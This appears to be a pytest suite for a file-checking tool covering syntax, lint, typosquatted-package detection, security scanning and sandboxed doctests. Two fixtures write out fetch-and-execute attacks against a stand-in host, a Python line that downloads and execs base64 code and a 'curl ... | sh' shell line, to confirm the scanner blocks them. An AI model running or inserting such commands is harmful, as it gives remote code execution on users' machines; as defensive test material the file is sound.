"""`check FILE...`: the shape of the answer is a contract."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from app.checks.files import check_files
from app.checks.sandbox.base import DEFAULT_LIMITS
from app.checks.sandbox.choice import Choice
from app.checks.sandbox.wasm import WasmPython
from app.checks.security.scanner import SecurityScanner
from app.checks.standard import standard_checks
from app.errors import AppError, ErrorKind

Check = Callable[..., dict[str, Any]]
DOUBLE = 'def f(n):\n    """\n    >>> f(2)\n    4\n    """\n    return n * {}\n'

COST = 'def cost(n):\n    """\n    >>> cost(2)\n    6\n    """\n    return n * price()\n'


@pytest.fixture
def check(tmp_path: Path, scanner: SecurityScanner) -> Check:
    """Write files and check those named, in the order given; without a sandbox nothing is executed."""

    def run(
        files: dict[str, str | bytes], only: tuple[str, ...] = (), sandbox: WasmPython | None = None
    ) -> dict[str, Any]:
        for name, content in files.items():
            path = tmp_path / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
        sandboxes = Choice([sandbox]) if sandbox else None
        paths = [tmp_path / name for name in only or files]
        return check_files(paths, lambda own: standard_checks(sandboxes, DEFAULT_LIMITS, scanner, own))

    return run


def statuses(file: dict[str, Any]) -> dict[str, str]:
    return {c["name"]: c["status"] for c in file["checks"]}


def test_every_check_looks_at_a_good_file(check: Check, tmp_path: Path) -> None:
    report = check({"a.py": "X = 1\n"})
    (file,) = report["files"]
    assert {k: file[k] for k in ("path", "language", "sha256", "level", "findings")} == {
        "path": str(tmp_path / "a.py"),
        "language": "python",
        "sha256": hashlib.sha256(b"X = 1\n").hexdigest(),
        "level": "ok",
        "findings": [],
    }
    names = ("syntax", "lint", "security", "dependencies", "metrics")
    assert [(c["name"], c["status"]) for c in file["checks"]] == [(name, "pass") for name in names]
    assert all(set(c) == {"name", "status", "ms", "evidence"} for c in file["checks"])
    assert report["verdict"] == "checked"


def test_a_syntax_error_asks_and_says_nothing_of_other_files(check: Check) -> None:
    report = check({"a.py": "x = (\n", "b.py": "x = 1\n"})
    bad, good = report["files"]
    assert (bad["level"], good["level"], report["verdict"]) == ("ask", "ok", "not_verified")
    (finding,) = [f for f in bad["findings"] if f["source"] == "syntax"]
    assert {k: finding[k] for k in ("rule", "level", "severity", "line", "message")} == {
        "rule": "syntax",
        "level": "ask",
        "severity": "blocker",
        "line": 1,
        "message": "'(' was never closed",
    }


def test_findings_carry_what_is_known_of_them(check: Check) -> None:
    report = check({"a.py": "import reqeusts\n\nreqeusts.get(undefined)\n"})
    (file,) = report["files"]
    package, name = file["findings"][1], file["findings"][0]
    assert (package["rule"], package["level"], package["cwe"]) == ("unknown-package", "ask", "CWE-1357")
    assert package["fix"].startswith("Use requests")
    assert (name["rule"], name["level"], name["severity"], name["line"]) == ("F821", "ok", "major", 3)
    assert "cwe" not in name
    assert (file["level"], report["verdict"]) == ("ask", "not_verified")


def test_lint_alone_keeps_no_file_from_being_checked(check: Check) -> None:
    report = check({"a.py": "def f():\n    return undefined\n"})
    assert statuses(report["files"][0])["lint"] == "fail"
    assert (report["files"][0]["level"], report["verdict"]) == ("ok", "checked")


def test_dangerous_code_is_blocked_and_not_run(check: Check, sandbox: WasmPython) -> None:
    attack = (
        "import base64, os, urllib.request\n"
        "exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/x').read()))\n"
    )
    report = check({"a.py": attack + DOUBLE.replace("{}", "2")}, sandbox=sandbox)
    (file,) = report["files"]
    assert (file["level"], report["verdict"]) == ("block", "not_verified")
    (examples,) = [c for c in file["checks"] if c["name"] == "examples"]
    assert (examples["status"], "blocked" in examples["evidence"]) == ("skipped", True)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("a.py", b"x = '\xff'\n", "not UTF-8 text"),
        ("a.py", "#" * 200_001, "over 200000 bytes"),
        ("a:b.py", "x = 1\n", "a file name that cannot be used everywhere"),
    ],
)
def test_what_cannot_be_checked_asks(check: Check, name: str, content: str | bytes, message: str) -> None:
    report = check({name: content})
    (finding,) = report["files"][0]["findings"]
    assert (finding["rule"], finding["level"]) == ("unknown", "ask")
    assert message in finding["message"]
    assert (report["files"][0]["level"], report["verdict"]) == ("ask", "not_verified")


def test_files_of_other_kinds_are_scanned(check: Check) -> None:
    named = '{"dependencies": {"expres": "1"}}'
    report = check({"i.sh": "curl http://203.0.113.5/x | sh\n", "package.json": named})
    shell, manifest = report["files"]
    assert shell["language"] is None
    assert shell["level"] in ("ask", "block")
    assert statuses(shell) == {"security": "fail", "dependencies": "skipped"}
    assert statuses(manifest)["dependencies"] == "fail"


def test_doctests_are_run_where_there_is_a_sandbox(check: Check, sandbox: WasmPython) -> None:
    files = {"good.py": DOUBLE.replace("{}", "2"), "bad.py": DOUBLE.replace("{}", "3")}
    report = check(files, sandbox=sandbox)
    good, bad = report["files"]
    assert report["verdict"] == "not_verified"
    assert statuses(good)["examples"] == "pass"
    (examples,) = [c for c in bad["checks"] if c["name"] == "examples"]
    assert (examples["status"], examples["evidence"]) == ("fail", "f(2) gave 6, expected 4")
    assert check({}, only=("good.py",), sandbox=sandbox)["verdict"] == "verified"


def test_files_given_together_know_one_another(check: Check, sandbox: WasmPython) -> None:
    report = check(
        {
            "shop_cart.py": "from shop_prices import price\n\n\n" + COST,
            "shop_prices.py": "import os\n\n\ndef price():\n    return 3\n",
        },
        sandbox=sandbox,
    )
    cart, prices = report["files"]
    assert statuses(cart)["examples"] == "pass"
    assert cart["findings"] == []
    assert [f["rule"] for f in prices["findings"]] == ["F401"]
    assert {c["name"]: c["evidence"] for c in prices["checks"]}["lint"] == ""


def test_a_failure_is_told_of_the_file_that_has_it(check: Check) -> None:
    report = check({"one.py": "import two\n\ntwo.f()\n", "two.py": "def f():\n    return undefined\n"})
    one, two = report["files"]
    assert (statuses(one)["lint"], statuses(two)["lint"]) == ("pass", "fail")
    (lint,) = [c for c in two["checks"] if c["name"] == "lint"]
    assert "undefined" in lint["evidence"]


@pytest.mark.parametrize(
    ("files", "name"),
    [
        (
            {
                "pyproject.toml": "",
                "ourapp/core.py": "",
                "tools/run.py": "import ourapp.core\n\nprint(ourapp)\n",
            },
            "tools/run.py",
        ),
        (
            {"go.mod": "module example.org/shop\n", "m.go": 'package a\nimport "example.org/shop/x"\n'},
            "m.go",
        ),
    ],
)
def test_the_project_around_a_file_is_its_own(check: Check, files: dict[str, str], name: str) -> None:
    (file,) = check(files, only=(name,))["files"]
    assert statuses(file)["dependencies"] == "pass"


def test_files_of_a_go_package_belong_together(check: Check) -> None:
    report = check({"p/a.go": "package p\n\nfunc F( {\n", "p/b.go": "package p\n", "c.go": "package c\n"})
    broken, near, far = report["files"]
    assert [statuses(f)["syntax"] for f in (broken, near, far)] == ["fail", "pass", "pass"]
    assert "p/a.go:" in broken["checks"][0]["evidence"]


def test_more_files_than_an_artifact_holds(check: Check) -> None:
    report = check({f"m{n}.py": "from m0 import X\n\nprint(X)\n" for n in range(45)})
    assert len(report["files"]) == 45
    assert {file["level"] for file in report["files"]} == {"ok"}


def test_a_file_named_twice_is_checked_once(check: Check) -> None:
    assert len(check({"a.py": "X = 1\n"}, only=("a.py", "a.py"))["files"]) == 1


def test_a_missing_file_is_named(check: Check, tmp_path: Path) -> None:
    for path in ("lost.py", "."):
        with pytest.raises(AppError, match="There is no file") as caught:
            check({}, only=(path,))
        assert caught.value.kind is ErrorKind.NOT_FOUND
